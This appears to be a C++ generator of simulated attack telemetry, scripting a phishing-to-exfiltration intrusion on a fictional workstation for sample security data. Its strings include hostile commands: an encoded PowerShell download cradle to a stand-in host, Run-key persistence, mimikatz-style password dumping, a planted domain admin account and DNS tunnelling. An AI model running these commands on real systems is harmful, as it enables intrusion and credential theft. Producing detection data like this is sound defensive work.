// The break-in on Mona Fairfax's workstation, in the order in which it happened.
//
// 10:41 a document from a mail runs a hidden PowerShell, 10:46 an implant stays and tunnels data
// out through DNS, 11:20 passwords are stolen, 12:05 the file server is taken, until 16:50 its
// project files leave through the tunnels.
#include <array>
#include <string>
#include <string_view>

#include "examples/generator/encoded_command.hpp"
#include "examples/generator/office.hpp"
#include "examples/generator/sensors.hpp"

namespace samplestix {
namespace {

constexpr int victim_number = 7;
constexpr std::string_view temp = R"(C:\Users\mfairfax\AppData\Local\Temp\)";
constexpr std::string_view powershell =
    R"(C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe)";

const File& implant() {
  static const File file = file_at(std::string(temp) + "wmhost.exe");
  return file;
}

const Account& planted_account() {
  static const Account account{"svc_update", "Update Service", "windows-domain", true};
  return account;
}

const Site& download_site() {
  static const Site site{"files.example.net", std::string(address::download_server), ""};
  return site;
}

/// Fetches a file over plain HTTP, without the proxy; host and flow sensor both see it.
void fetch(Office& office, const Machine& victim, const Process& process, std::string_view path,
           Moment moment, std::int64_t size) {
  Flow flow = office.network.connect(victim.host().ipv4, download_site().ipv4, protocol::http,
                                     moment, {size / 1900, 1'840, size});
  flow.request = {"GET", std::string(path), download_site().domain, "WindowsPowerShell/5.1.19041"};
  see_process_flow(office.bundle, process, flow);
  see_flow(office.bundle, flow);
}

/// The command prompt the intruder types into.
struct Prompt {
  Machine& machine;
  const Account& person;
  const Process& shell;

  const Process& run(Moment moment, std::string_view path, std::string_view text) const {
    return machine.start_as(moment, &shell, file_at(path), text, person);
  }

  /// Runs net.exe, which leaves half of its work to net1.exe.
  void net(Moment moment, const std::string& arguments) const {
    const Process& process = run(moment, system32("net.exe"), "net " + arguments);
    machine.start_as(moment + 61, &process, file_at(system32("net1.exe")),
                     R"(C:\Windows\system32\net1 )" + arguments, person);
  }
};

/// 10:41 to 10:42: a mail attachment, a macro, an encoded PowerShell that fetches the implant.
const Process& open_attachment(Office& office, Machine& victim, const Account& person) {
  const std::string document =
      R"(C:\Users\mfairfax\AppData\Local\Microsoft\Windows\INetCache\Content.Outlook\7QX2LK4P\)"
      "Invoice_20914.docm";
  const Process& mail = victim.running(Role::mail);
  see_file_created(office.bundle, mail, file_at(document), at(10, 41, 3, 212));
  const Process& word = victim.start(
      at(10, 41, 7, 480), &mail, R"(C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE)",
      "/n \"" + document + "\"", person);

  const std::string script =
      "$url = 'http://files.example.net/media/wmhost.bin'; "
      "(New-Object Net.WebClient).DownloadFile($url, \"$env:TEMP\\wmhost.exe\"); cmd.exe";
  const std::string command =
      "powershell.exe -NoProfile -WindowStyle Hidden -enc " + encoded_command(script);
  const Process& macro_shell = victim.open_shell(at(10, 42, 19, 35), word, "/c " + command, person);
  const Process& downloader =
      victim.start_as(at(10, 42, 19, 902), &macro_shell, file_at(powershell), command, person);

  see_lookup(office.bundle, victim.running(Role::name_lookup),
             office.network.connect(victim.host().ipv4, office.company.name_resolver.ipv4,
                                    protocol::dns, at(10, 42, 31, 118), {44, 77, 132}),
             download_site());
  fetch(office, victim, downloader, "/media/wmhost.bin", at(10, 42, 31, 171), 1'499'611);
  see_file_created(office.bundle, downloader, implant(), at(10, 42, 38, 96));
  return downloader;
}

/// 10:43 to 10:46: where am I, who else is here, and how do I stay. Returns the implant.
const Process& settle_in(Office& office, const Prompt& prompt) {
  prompt.run(at(10, 43, 2, 150), system32("whoami.exe"), "whoami /all");
  prompt.run(at(10, 43, 15, 733), system32("ipconfig.exe"), "ipconfig /all");
  prompt.run(at(10, 43, 31, 20), system32("systeminfo.exe"), "systeminfo");
  prompt.net(at(10, 43, 58, 641), "user /domain");
  prompt.net(at(10, 44, 20, 305), R"(group "Domain Admins" /domain)");
  prompt.net(at(10, 44, 41, 877), "localgroup administrators");
  const std::string run_key = R"(Software\Microsoft\Windows\CurrentVersion\Run)";
  const Process& registry = prompt.run(
      at(10, 45, 30, 404), system32("reg.exe"),
      R"(reg add HKCU\)" + run_key + " /v WindowsMediaHost /d " + path_of(implant()) + " /f");
  see_registry_value(
      office.bundle, registry,
      {R"(HKEY_CURRENT_USER\)" + run_key, "WindowsMediaHost", path_of(implant()), "REG_SZ"},
      at(10, 45, 30, 460));
  prompt.run(at(10, 46, 5, 18), path_of(implant()),
             R"(wmhost.exe --once "whoami && net user /domain")");
  return prompt.run(at(10, 46, 40, 566), path_of(implant()),
                    "wmhost.exe -d cdn7.example.net -r 203.0.113.77");
}

/// 11:20 to 11:58: passwords out of memory, and an account of one's own.
void steal_passwords(Office& office, const Prompt& prompt) {
  prompt.run(at(11, 20, 44, 91), powershell,
             "powershell.exe -version 2 -NoProfile -Command \"Get-Process lsass\"");
  const std::string script =
      "(New-Object Net.WebClient).DownloadFile('http://files.example.net/media/mk64.bin', "
      "\"$env:TEMP\\mk64.exe\")";
  const Process& fetcher =
      prompt.run(at(11, 23, 12, 640), powershell,
                 "powershell.exe -Version 2 -NoProfile -EncodedCommand " + encoded_command(script));
  const File tool = file_at(std::string(temp) + "mk64.exe");
  fetch(office, prompt.machine, fetcher, "/media/mk64.bin", at(11, 23, 13, 377), 2'679'048);
  see_file_created(office.bundle, fetcher, tool, at(11, 23, 14, 950));
  prompt.run(at(11, 35, 7, 270), path_of(tool),
             "mk64.exe privilege::debug sekurlsa::logonpasswords exit");
  prompt.net(at(11, 52, 26, 314), "user svc_update Tr4nsient! /add /domain");
  prompt.net(at(11, 53, 2, 808), "localgroup administrators svc_update /add");
}

/// 12:05 to 12:14: the implant again, under another name, as a service on the file server.
void take_file_server(Office& office, const Prompt& prompt) {
  const Machine& victim = prompt.machine;
  Machine& server = office.file_server;
  const std::string& own_address = victim.host().ipv4;
  prompt.run(at(12, 5, 11, 52), system32("net.exe"),
             R"(net use \\THO-FS01\C$ /user:svc_update Tr4nsient!)");
  see_logon(office.bundle, server.host(), planted_account(), own_address, at(12, 5, 11, 420));
  const Process& client = victim.running(Role::kernel);
  const auto copy = [&](Moment start, Volume volume) {
    const Flow flow =
        office.network.connect(own_address, server.host().ipv4, protocol::smb, start, volume);
    see_process_flow(office.bundle, client, flow);
    see_flow(office.bundle, flow);
  };
  copy(at(12, 5, 11, 210), {3 * minute, 1'538'402, 48'310});

  File twin = implant();  // same content, hence the same hashes
  twin.name = "svcupd.exe";
  twin.directory = R"(C:\Windows\TEMP)";
  see_file_created(office.bundle, server.running(Role::kernel), twin, at(12, 8, 3, 94));
  const Process& services = server.running(Role::services);
  see_registry_value(office.bundle, services,
                     {R"(HKEY_LOCAL_MACHINE\SYSTEM\CurrentControlSet\Services\svcupd)", "ImagePath",
                      "cmd.exe /c " + path_of(twin) + " -q", "REG_EXPAND_SZ"},
                     at(12, 9, 1, 260));
  const Process& service_shell = server.open_shell(at(12, 9, 2, 15), services,
                                                   "/c " + path_of(twin) + " -q", system_account());
  server.start_as(at(12, 9, 2, 230), &service_shell, twin, path_of(twin) + " -q", system_account());

  prompt.run(at(12, 12, 48, 700), system32("Robocopy.exe"),
             R"(robocopy \\THO-FS01\Projects )" + std::string(temp) + "stage /E /R:0");
  copy(at(12, 12, 49, 12), {6 * minute, 310'442, 31'902'118});
}

/// 10:52 to 16:50: eight long lookups that are none.
void tunnel_out(Office& office, const Machine& victim, const Process& tunneller) {
  struct Tunnel {
    Moment start;
    Volume volume;
  };
  static constexpr std::array<Tunnel, tunnel_count> tunnels{{
      {at(10, 52, 3, 418), {24 * minute + 1'207, 3'214'877, 412'390}},
      {at(11, 24, 40, 92), {31 * minute + 33'540, 3'871'026, 498'114}},
      {at(12, 21, 17, 655), {38 * minute + 8'911, 5'402'233, 701'482}},
      {at(13, 2, 55, 310), {42 * minute + 19'004, 5'618'940, 688'027}},
      {at(13, 51, 9, 837), {35 * minute + 50'262, 4'977'301, 640'955}},
      {at(14, 33, 28, 121), {40 * minute + 2'718, 5'233'518, 593'216}},
      {at(15, 20, 46, 549), {37 * minute + 44'390, 4'689'772, 577'803}},
      {at(16, 8, 12, 73), {41 * minute + 12'655, 4'120'459, 455'671}},
  }};
  Random random("labels of the tunnels");
  for (const Tunnel& tunnel : tunnels) {
    const Flow flow = office.network.connect(victim.host().ipv4, address::rogue_resolver,
                                             protocol::dns, tunnel.start, tunnel.volume);
    const Site question{random.hexadecimal(60) + ".cdn7.example.net", "", ""};
    const auto once_a_minute = static_cast<int>(tunnel.volume.duration / minute);
    see_lookup(office.bundle, tunneller, flow, question);
    see_lookup_on_wire(office.bundle, flow, question, {once_a_minute, 0});
  }
}

}  // namespace

void run_intrusion(Office& office) {
  Machine& victim = office.workstation(victim_number);
  const Account& person = office.person(victim_number);
  const Process& downloader = open_attachment(office, victim, person);
  const Prompt prompt{victim, person,
                      victim.open_shell(at(10, 42, 44, 260), downloader, "", person)};
  const Process& tunneller = settle_in(office, prompt);
  tunnel_out(office, victim, tunneller);
  steal_passwords(office, prompt);
  take_file_server(office, prompt);
}

}  // namespace samplestix
